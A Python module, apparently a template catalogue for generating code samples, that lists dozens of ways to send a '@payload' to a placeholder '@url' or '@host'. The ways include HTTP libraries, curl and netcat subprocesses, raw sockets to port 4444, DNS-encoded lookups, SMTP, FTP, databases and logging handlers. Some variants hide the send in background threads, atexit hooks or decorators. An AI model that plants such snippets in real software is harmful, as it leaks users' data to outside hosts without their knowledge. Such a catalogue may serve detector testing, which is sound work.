"""Ways to speak to a host. `@url` and `@host` are expressions, `@payload` one too."""

URLS: dict[str, tuple[str, str]] = {
    "post": ("import requests", "requests.post(@url, json={'d': str(@payload)}, timeout=5)"),
    "httpx stream": ("import httpx", "with httpx.stream('POST', @url, content=str(@payload)) as _r:\n    _r.read()"),
    "httpx client base": (
        "import httpx",
        "_c = httpx.Client(base_url=@url, headers={'X-Info': str(@payload)})\n_c.get('/')",
    ),
    "httpx request": ("from httpx import request as _rq", "_rq('PATCH', @url, data={'d': str(@payload)})"),
    "httpx async base": (
        "import httpx, asyncio",
        "async def _send():\n    async with httpx.AsyncClient(base_url=@url) as c:\n"
        "        await c.post('/', json=str(@payload))\nasyncio.run(_send())",
    ),
    "aiohttp base": (
        "import aiohttp, asyncio",
        "async def _send():\n    async with aiohttp.ClientSession(@url) as s:\n"
        "        await s.post('/x', data=str(@payload))\nasyncio.run(_send())",
    ),
    "aiohttp request": (
        "import aiohttp, asyncio",
        "async def _send():\n    async with aiohttp.request('GET', @url, params={'d': str(@payload)}) as r:\n"
        "        return r.status\nasyncio.get_event_loop().run_until_complete(_send())",
    ),
    "session request": (
        "from requests import Session",
        "with Session() as _s:\n    _s.request(method='POST', url=@url, data=str(@payload), timeout=3)",
    ),
    "session subclass": (
        "import requests\n\n\nclass Api@Name(requests.Session):\n    def tell(self, where, what):\n"
        "        return self.post(where, json=what, timeout=3)\n",
        "Api@Name().tell(@url, {'d': str(@payload)})",
    ),
    "session cookies": (
        "import requests",
        "_s = requests.Session()\n_s.cookies.set('d', str(@payload))\n_s.get(@url, timeout=4)",
    ),
    "session auth": ("import requests", "requests.get(@url, auth=('u', str(@payload)), timeout=4)"),
    "user agent": ("import requests", "requests.head(@url, headers={'User-Agent': str(@payload)}, timeout=4)"),
    "in the path": (
        "import requests, urllib.parse as _p",
        "requests.get(@url + '/' + _p.quote(str(@payload)), timeout=4)",
    ),
    "in the query": ("import requests", "requests.get(f'{@url}?d={@payload}', timeout=4)"),
    "as a file": (
        "import requests, io",
        "requests.post(@url, files={'f': io.BytesIO(str(@payload).encode())}, timeout=9)",
    ),
    "through a proxy": (
        "import requests",
        "requests.get('http://x/' + str(@payload), proxies={'http': @url}, timeout=5)",
    ),
    "opener": (
        "from urllib.request import Request, build_opener",
        "build_opener().open(Request(@url, str(@payload).encode(), {'A': 'b'}))",
    ),
    "urlopen": ("import urllib.request", "urllib.request.urlopen(url=@url, data=str(@payload).encode())"),
    "urllib3 request": ("import urllib3", "urllib3.request('POST', @url, fields={'d': str(@payload)})"),
    "urllib3 pool": (
        "from urllib3 import PoolManager",
        "_pm = PoolManager()\n_pm.urlopen('PUT', @url, body=str(@payload))",
    ),
    "web socket": (
        "import websocket",
        "_ws = websocket.WebSocket()\n_ws.connect((@url).replace('http', 'ws', 1))\n_ws.send(str(@payload))",
    ),
    "websockets": (
        "import asyncio, websockets",
        "async def _send():\n    async with websockets.connect((@url).replace('http', 'ws', 1)) as w:\n"
        "        await w.send(str(@payload))\nasyncio.run(_send())",
    ),
    "curl": ("import subprocess", "subprocess.run(['curl', '-sS', '--data', str(@payload), @url], check=False)"),
    "shell curl": ("import os", "os.popen(f'curl -s {@url} -d \"{@payload}\"').read()"),
    "pycurl": (
        "import pycurl",
        "_c = pycurl.Curl()\n_c.setopt(pycurl.URL, @url)\n_c.setopt(pycurl.POSTFIELDS, str(@payload))\n_c.perform()",
    ),
    "pandas": ("import pandas", "pandas.read_csv(@url + '?d=' + str(@payload))"),
    "openai base": (
        "from openai import OpenAI",
        "OpenAI(base_url=@url, api_key=str(@payload)).models.list()",
    ),
    "s3 endpoint": (
        "import boto3",
        "boto3.client('s3', endpoint_url=@url).put_object(Bucket='b', Key='k', Body=str(@payload))",
    ),
    "decorated": (
        "import requests\n\n\ndef _told(function):\n    def inner(where, what):\n"
        "        requests.post(where, data=what, timeout=3)\n        return function(where, what)\n    return inner\n\n\n"
        "@@_told\ndef @name(where, what):\n    return None\n",
        "@name(@url, str(@payload))",
    ),
    "callback": (
        "import requests\n\n\ndef @name(send, where, what):\n    return send(where, json={'d': what}, timeout=3)\n",
        "@name(requests.post, @url, str(@payload))",
    ),
    "request hook": (
        "import requests",
        "_kw = {'url': @url, 'json': {'d': str(@payload)}, 'timeout': 3}\nrequests.post(**_kw)",
    ),
    "verb by table": (
        "import requests",
        "_verbs = {'w': requests.put, 'r': requests.get}\n_verbs['w'](@url, data=str(@payload), timeout=3)",
    ),
    "background": (
        "import requests\nfrom threading import Thread",
        "def _bg():\n    requests.post(@url, data=str(@payload), timeout=3)\nThread(target=_bg, daemon=True).start()",
    ),
    "at exit": ("import atexit, requests", "atexit.register(requests.post, @url, data=str(@payload))"),
}
# These need only the name of a host.
HOSTS: dict[str, tuple[str, str]] = {
    "https connection": (
        "from http.client import HTTPSConnection",
        "_h = HTTPSConnection(@host, 443, timeout=4)\n_h.request('GET', '/?d=' + str(@payload))\n_h.getresponse()",
    ),
    "socket connect": (
        "import socket",
        "_k = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n_k.connect((@host, 4444))\n_k.send(str(@payload).encode())",
    ),
    "datagram": (
        "from socket import socket, AF_INET, SOCK_DGRAM",
        "socket(AF_INET, SOCK_DGRAM).sendto(str(@payload).encode(), (@host, 53))",
    ),
    "tls": (
        "import socket, ssl",
        "with ssl.create_default_context().wrap_socket(socket.create_connection((@host, 443)), server_hostname=@host) as _k:\n"
        "    _k.write(str(@payload).encode())",
    ),
    "asyncio connection": (
        "import asyncio",
        "async def _send():\n    _, w = await asyncio.open_connection(@host, 9001)\n    w.write(str(@payload).encode())\n"
        "asyncio.run(_send())",
    ),
    "dns": ("import socket", "socket.gethostbyname(str(@payload).encode().hex()[:60] + '.' + @host)"),
    "dns info": ("from socket import getaddrinfo", "getaddrinfo(f'{hash(str(@payload))}.{@host}', 80)"),
    "nslookup": ("import subprocess", "subprocess.call(['nslookup', str(@payload)[:40] + '.' + @host])"),
    "mail": (
        "import smtplib",
        "with smtplib.SMTP(@host, 587) as _m:\n    _m.sendmail('a@b.c', ['d@e.f'], str(@payload))",
    ),
    "ftp": (
        "from ftplib import FTP\nimport io",
        "_f = FTP(@host)\n_f.login()\n_f.storbinary('STOR x', io.BytesIO(str(@payload).encode()))",
    ),
    "redis": ("import redis", "redis.Redis(host=@host, port=6379).set('k', str(@payload))"),
    "mongo": ("from pymongo import MongoClient", "MongoClient(@host, 27017).db.items.insert_one({'d': str(@payload)})"),
    "postgres": (
        "import psycopg2",
        "psycopg2.connect(host=@host, dbname='d').cursor().execute('select %s', [str(@payload)])",
    ),
    "ssh": (
        "import paramiko",
        "_s = paramiko.SSHClient()\n_s.connect(@host, username='u')\n_s.exec_command('echo ' + str(@payload))",
    ),
    "http log handler": (
        "import logging, logging.handlers",
        "_l = logging.getLogger('audit')\n_l.addHandler(logging.handlers.HTTPHandler(@host, '/log', method='POST'))\n"
        "_l.error(str(@payload))",
    ),
    "syslog": (
        "import logging\nfrom logging.handlers import SysLogHandler",
        "_l = logging.getLogger('audit')\n_l.addHandler(SysLogHandler(address=(@host, 514)))\n_l.warning('%s', @payload)",
    ),
    "sentry": (
        "import sentry_sdk",
        "sentry_sdk.init(dsn='https://0123abcd@@' + @host + '/4')\nsentry_sdk.capture_message(str(@payload))",
    ),
    "mqtt": (
        "import paho.mqtt.client as _mq",
        "_c = _mq.Client()\n_c.connect(@host, 1883)\n_c.publish('t', str(@payload))",
    ),
    "grpc": (
        "import grpc",
        "_ch = grpc.insecure_channel(@host + ':50051')\n_ch.unary_unary('/S/M')(str(@payload).encode())",
    ),
    "netcat": ("import subprocess", "subprocess.run(['nc', @host, '9999'], input=str(@payload).encode())"),
}
